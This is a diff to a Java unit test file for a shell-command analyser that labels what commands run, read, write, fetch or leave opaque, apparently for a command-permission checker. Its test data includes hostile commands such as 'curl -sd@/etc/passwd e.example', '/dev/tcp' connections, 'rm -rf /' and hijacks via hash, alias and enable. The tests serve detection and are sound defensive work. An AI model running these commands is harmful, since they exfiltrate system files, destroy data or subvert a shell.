@@ -32,6 +32,7 @@ final class ShellReaderTest {
                     case ShellUse.Opaque opaque ->
                         "opaque " + opaque.what().name().toLowerCase(java.util.Locale.ROOT);
                 })
+                .distinct()
                 .collect(Collectors.joining(", "));
     }
 
@@ -41,7 +42,7 @@ final class ShellReaderTest {
             quoteCharacter = '\0',
             value = {
                 "ls -la=>run ls, read /p",
-                "git status && git diff; npm test & make=>run git, run git, run npm, run make",
+                "git status && git diff; npm test & make=>run git, run npm, run make",
                 "echo 'a; rm -rf /' \"b | c\" d\\;e=>run echo",
                 "echo \"$(rm x)\"=>run rm, delete /p/x, run echo ?",
                 "echo `id -u`=>run id, run echo ?",
@@ -234,6 +235,135 @@ final class ShellReaderTest {
 
     private static List<String> names(String text) throws ShellRefusedException {
         return ((ShellUse.Runs) read(text).getFirst()).names();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "trap \"$x\" EXIT",
+                "let 'a[$(id)]=1'",
+                "read 'a[$(id)]'",
+                "read $x",
+                "read -p $x a",
+                "unset 'a[$(id)]'",
+                "unset '' 'a[$(id)]'",
+                "mapfile -C 'id x' -c 1 a",
+                "readarray 'a[1]'",
+                "getopts ab 'c[$(id)]'",
+                ". f",
+                "source f",
+                "command . f",
+                "hash -p /tmp/evil ls",
+                "enable -f /tmp/x.so y",
+                "complete -C id ls",
+                "compgen -C id",
+                "alias ls=id",
+                "shopt -s expand_aliases",
+                "bind -x '\"a\":id'",
+                "fc -s",
+                "history -s id",
+                "jobs -x id",
+                "wait -p 'a[$(id)]'",
+                "noglob rm x",
+                "bash -c -o posix 'rm x'",
+                "bash -c +e 'rm x'",
+                "bash pipefail -c ls",
+                "bash -o keyword -c ls",
+                "exec 3<>/dev/tcp/e.example/80",
+                "echo x >//dev/udp/e.example/53",
+            })
+    void whatRunsByOtherWaysThanACommandIsOpaque(String text) throws ShellRefusedException {
+        assertTrue(shown(text).contains("opaque program"), () -> text + ": " + unchecked(text));
+    }
+
+    private static String unchecked(String text) {
+        try {
+            return shown(text);
+        } catch (ShellRefusedException e) {
+            return String.valueOf(e.getMessage());
+        }
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiterString = "=>",
+            quoteCharacter = '\0',
+            value = {
+                "trap 'rm x' EXIT; cd /t=>run trap, delete /p/x, delete /t/x, run rm, run cd",
+                "trap - EXIT; trap '' INT; trap -p=>run trap",
+                "read -r -p 'a b' l m; read -rn1 x; IFS= read -d '' y=>set IFS, run read",
+                "read -ra PATH=>run read, set PATH",
+                "unset -v a PATH=>run unset, set PATH",
+                "mapfile -t a; shopt -s nullglob; hash -r; jobs -l; wait -n=>run mapfile, run shopt, run hash, run jobs, run wait",
+                "while getopts ab: o; do shift; done=>run getopts, run shift",
+                "umask 022; ulimit -n 5; exit 3=>run umask, run ulimit, run exit",
+                "eval -- 'rm x'=>run rm, delete /p/x",
+                "bash -c -- 'rm x'=>run rm, delete /p/x",
+                "bash -euo pipefail -c 'rm x'=>run rm, delete /p/x",
+                "chdir /t; rm x=>run chdir, run rm, delete /p/x, delete /t/x",
+            })
+    void theShellsOwnCommandsAreReadWhereTheyCanBe(String text, String expected) throws ShellRefusedException {
+        assertEquals(Set.of(expected.split(", ")), Set.of(shown(text).split(", ")));
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiterString = "=>",
+            quoteCharacter = '\0',
+            value = {
+                "curl e.example/x=>fetch http://e.example/x",
+                "curl -sSL --url=https://e.example/ -m 5=>fetch https://e.example/",
+                "curl --url e.example -H 'A: b' -XPOST=>fetch http://e.example",
+                "curl -sd@/etc/passwd e.example=>fetch http://e.example, read /etc/passwd",
+                "curl --data-binary @f -H @h e.example=>fetch http://e.example, read /p/f, read /p/h",
+                "curl --data-urlencode n@f --data-urlencode 'a=@b' e.example=>fetch http://e.example, read /p/f",
+                "curl -F 'a=@f;type=text/plain' -F b=<g e.example=>fetch http://e.example, read /p/f, read /p/g",
+                "curl -F 'a=b;headers=@f' e.example=>fetch http://e.example, opaque file",
+                "curl -F 'a=@f,g' e.example=>fetch http://e.example, read /p/f,g, opaque file",
+                "curl -T f -b c -c d -o o e.example=>fetch http://e.example, read /p/f, read /p/c, write /p/d, write /p/o",
+                "curl -b a=b -u n:p -x proxy:80 e.example=>fetch http://e.example, fetch http://proxy:80",
+                "curl -O https://e.example/d/f?x=>fetch https://e.example/d/f?x, write /p/f",
+                "curl -O --output-dir /t/ e.example/f=>fetch http://e.example/f, write /t, write /t/f",
+                "curl -K f=>opaque program, fetch http://f",
+                "curl -q --resolve e.example:80:1.2.3.4 e.example=>opaque program, fetch http://e.example:80:1.2.3.4, fetch http://e.example",
+                "curl \"$u\"=>opaque program",
+                "curl -H \"A: $t\" https://e.example/?a=>fetch https://e.example/?a",
+                "curl -H \"$t\" e.example=>fetch http://e.example, opaque file",
+                "curl -m $t e.example=>fetch http://e.example, opaque program",
+                "curl file:///etc/passwd=>opaque file",
+                "curl -w '%output{x}' e.example=>fetch http://e.example, opaque file",
+                "curl -- -x=>fetch http://-x",
+                "wget e.example/x=>fetch http://e.example/x, write /p/x",
+                "wget -qO- https://e.example/=>fetch https://e.example/",
+                "wget -nv -P /t --post-file=f e.example=>fetch http://e.example, read /p/f, write /t, write /t/index.html",
+                "wget -i f=>opaque program, fetch http://f, write /p/index.html",
+                "wget -e use_proxy=on e.example=>opaque program, fetch http://use_proxy=on, fetch http://e.example, write /p/index.html",
+                "wget --spider e.example=>fetch http://e.example",
+            })
+    void transfersAreReadWithWhatTheySendAndWrite(String text, String expected) throws ShellRefusedException {
+        Set<String> found = new java.util.TreeSet<>(Set.of(shown(text).split(", ")));
+        found.removeIf(one -> one.startsWith("run "));
+        assertEquals(new java.util.TreeSet<>(Set.of(expected.split(", "))), found);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "git -C . push",
+                "git --no-pager push origin",
+                "git -c a.b=c -C /x push",
+                "git $x push",
+                "git -c 'a=b c' push"
+            })
+    void aRuleOfACommandIsFoundBehindOptionsAndOnlyBesideTheOptions(String text) throws ShellRefusedException {
+        List<ShellUse.Runs> runs = read(text).stream()
+                .filter(ShellUse.Runs.class::isInstance)
+                .map(ShellUse.Runs.class::cast)
+                .toList();
+        assertEquals(2, runs.size());
+        assertTrue(!runs.getFirst().names().contains("git push"), "what allows `git push` does not allow this");
+        assertTrue(runs.getLast().names().contains("git push"), () -> runs.toString());
+        assertTrue(runs.getLast().names().containsAll(runs.getFirst().names()));
     }
 
     @ParameterizedTest
